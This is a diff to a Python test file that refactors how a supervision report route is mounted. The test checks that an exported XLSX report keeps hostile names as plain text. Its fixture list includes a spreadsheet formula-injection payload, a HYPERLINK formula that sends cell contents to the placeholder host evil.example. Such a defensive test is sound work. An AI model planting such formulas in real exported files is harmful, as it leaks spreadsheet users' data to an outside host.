@@ -11,7 +11,6 @@ from datetime import date, datetime
 from pathlib import Path
 
 import pytest
-from fastapi import FastAPI
 from fastapi.templating import Jinja2Templates
 from fastapi.testclient import TestClient
 from jinja2 import ChoiceLoader, Environment, FileSystemLoader, select_autoescape
@@ -27,10 +26,11 @@ from services.embed.registry import export_portals, import_portals, known_region
 from services.embed.store import EmbedStore
 from services.migration import Planned, Reject, RejectWriter, load_config, read_legacy, read_rejects
 from services.publisher.catalog_xlsx import export_catalog, import_catalog
+from services.supervision import routes as supervision_routes
 from services.supervision.app import supervision_store_url
-from services.supervision.pages import build_router as supervision_router
 from services.supervision.store import SupervisionStore
 from tests.factories import catalog_changed, place, published
+from tests.wired import directory_of, mounted
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
@@ -179,8 +179,8 @@ def test_the_supervision_report_keeps_hostile_names_as_text(tmp_path):
     store.apply_catalogs([catalog_changed()])
     store.apply([published("p1", placements=[place(furong, HOSTILE[0], "D14-02-02")], title=HOSTILE[1])])
     loader = ChoiceLoader([FileSystemLoader("services/portal/templates"), FileSystemLoader("services/supervision/templates")])
-    app = FastAPI()
-    app.include_router(supervision_router(store, Jinja2Templates(env=Environment(loader=loader, autoescape=select_autoescape(default=True))), lambda: regions))
+    templates = Jinja2Templates(env=Environment(loader=loader, autoescape=select_autoescape(default=True)))
+    app = mounted(supervision_routes.router, supervision_store=store, templates=templates, directory=directory_of(regions))
     response = TestClient(app).get(f"/supervision/report.xlsx?region={furong}")
     assert response.status_code == 200
     assert_no_formulas(response.content)
